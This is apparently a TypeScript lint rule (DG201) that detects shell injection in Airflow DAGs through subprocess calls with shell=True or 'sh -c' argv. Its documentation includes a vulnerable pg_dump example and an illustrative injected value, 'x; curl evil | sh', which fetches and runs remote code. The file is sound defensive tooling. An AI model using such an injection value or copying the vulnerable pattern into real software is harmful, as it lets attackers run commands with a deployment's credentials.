import type { SyntaxNode } from 'tree-sitter';
import { defineRule } from '../../src/engine/rule';
import { argument, isTruthyConstant, stringValue, unwrap, type CallArgs } from '../../src/engine/python';
import type { RuleContext } from '../../src/engine/context';
import { sinkCalls } from '../../src/engine/partials';
import { atLeast } from '../../src/airflow/trust';
import { shellScriptInArgv } from '../../src/airflow/shell';
import { resolveName } from '../../src/airflow/provenance';
import { commandProvenance, originWords, severityFor, snippet } from './_util';

/** Take a `shell=` flag; the command is the first argument (`args=`). */
const SHELL_FLAG = new Set(['subprocess.run', 'subprocess.call', 'subprocess.check_call', 'subprocess.check_output', 'subprocess.Popen']);
/** Always run `/bin/sh -c cmd`. */
const ALWAYS_SHELL = new Set(['subprocess.getoutput', 'subprocess.getstatusoutput']);

export default defineRule({
  meta: {
    id: 'DG201',
    name: 'subprocess-shell-with-input',
    category: 'shell-injection',
    severity: 'high',
    parseTime: 'note',
    message: '`{fn}` runs a shell command built from {origin} (`{value}`)',
    aliases: ['B602', 'B604', 'S602', 'S604', 'B605', 'S605'],
    docs: {
      what:
        'Finds `subprocess.run`/`call`/`check_call`/`check_output`/`Popen` with a truthy `shell=` (also given as `**{"shell": True}`, through a `**kw` dict bound before the call, or bound by `functools.partial(subprocess.run, shell=True)` and called at once or through a name), `subprocess.getoutput`/`getstatusoutput`, and any of them given an argv of the form `["sh", "-c", script]` (or an interpreter\'s inline code: `["python", "-c", code]`, `perl -e`, `node -e`, `php -r`), when the shell script is not constant. Names are followed to their assignment, loop or parameter (a dict or list carries what is stored in it — `d[k] = v`, `.update`, `.setdefault`, `.append`; `self.x` what the class stores there, with `__init__` arguments judged where the class is called): constants, module paths (`os.path.join(os.path.dirname(__file__), …)`), `shlex.quote(…)`, numbers and values checked against an allow list or a strict pattern first (`if t not in TABLES: raise`, `if not re.fullmatch(…, t): raise`, `assert t in TABLES`) are fine; Variables, environment values and other tasks\' output (XComs) are *medium*; parameters of TaskFlow tasks and `python_callable`s are judged at their call sites in the file (constants there are fine; with no call site, or one that does not show the value, *medium*); `dag_run.conf`, `params` and values of unknown origin are *high*. A constant command with `shell=True` is not reported (no input, no injection).',
      why:
        'The shell interprets `;`, `|`, `$(…)`, backquotes and newlines in the spliced value: a table name like `x; curl evil | sh` runs an attacker\'s command on the worker (or, at parse time, in the dag-processor) with the deployment\'s credentials. Values in DAGs come from `dag_run.conf`, params and XComs, which anyone allowed to trigger a DAG or to write upstream data controls.',
      example:
        '```python\n@task\ndef export(table: str):\n    subprocess.run(f"pg_dump -t {table} > /tmp/{table}.sql", shell=True, check=True)\n```',
      useInstead:
        '```python\n@task\ndef export(table: str):\n    with open(f"/tmp/{table}.sql", "wb") as out:\n        subprocess.run(["pg_dump", "-t", table], stdout=out, check=True)  # no shell\n    # if a shell is unavoidable: f"pg_dump -t {shlex.quote(table)}"\n```',
    },
  },
  // functools.partial(subprocess.run, shell=True): a shell runner, judged where it is called
  calls: [...SHELL_FLAG, ...ALWAYS_SHELL, 'functools.partial'],
  onCall(call, fn, ctx) {
    for (const c of sinkCalls(call, fn, ctx, (t) => SHELL_FLAG.has(t) || ALWAYS_SHELL.has(t))) check(c.use, c.fn, c.args, c.bound, ctx);
  },
});

/** The rule on one call of `fn` with these arguments (`splatsIn`: the call whose `**d` splats may set `shell`). */
function check(call: SyntaxNode, fn: string, args: CallArgs, splatsIn: SyntaxNode, ctx: RuleContext): void {
  let script: SyntaxNode | undefined;
  if (ALWAYS_SHELL.has(fn)) script = argument(args, 'cmd', 0);
  else if (SHELL_FLAG.has(fn)) {
    const cmd = argument(args, 'args', 0);
    if (!cmd) return;
    const u = unwrap(cmd);
    const isList = (n: SyntaxNode) => n.type === 'list' || n.type === 'tuple';
    let list = isList(u) ? u.namedChildren.filter((x) => x.type !== 'comment') : null;
    // `argv = ["sh", "-c", …]; subprocess.Popen(argv)`: an argv bound before the call (and grown by `.append`/`+=`)
    if (u.type === 'identifier') {
      const v = resolveName(u).map(unwrap);
      if (v.length && isList(v[0])) list = v.flatMap((d) => (isList(d) ? d.namedChildren.filter((x) => x.type !== 'comment') : [d]));
    }
    // `**kw` with `kw = {"shell": True}` bound before the call (a `**{...}` literal is read by callArgs already)
    const shell = args.keywords.get('shell') ?? splatKeyword(call, 'shell') ?? (splatsIn !== call ? splatKeyword(splatsIn, 'shell') : undefined);
    if (shell && isTruthyConstant(shell)) script = list ? list[0] : cmd;
    else if (list) script = shellScriptInArgv(list) ?? undefined;
  } else return;
  if (!script) return;
  const p = commandProvenance(script, ctx);
  if (!atLeast(p.trust, 'config')) return;
  ctx.report(call, { fn, origin: originWords(p.trust), value: snippet(p.node) }, { severity: severityFor(p.trust) });
}

/** The value of `name` in a `**d` splat of the call, `d` being a name bound only to dict literals that set it. */
function splatKeyword(call: SyntaxNode, name: string): SyntaxNode | undefined {
  for (const a of call.childForFieldName('arguments')?.namedChildren ?? []) {
    const id = a.type === 'dictionary_splat' ? a.namedChildren[0] && unwrap(a.namedChildren[0]) : null;
    if (id?.type !== 'identifier') continue;
    for (const d of resolveName(id).map(unwrap)) {
      if (d.type !== 'dictionary') continue;
      const pair = d.namedChildren.find((p) => p.type === 'pair' && stringValue(p.childForFieldName('key')) === name);
      const v = pair?.childForFieldName('value');
      if (v) return v;
    }
  }
  return undefined;
}
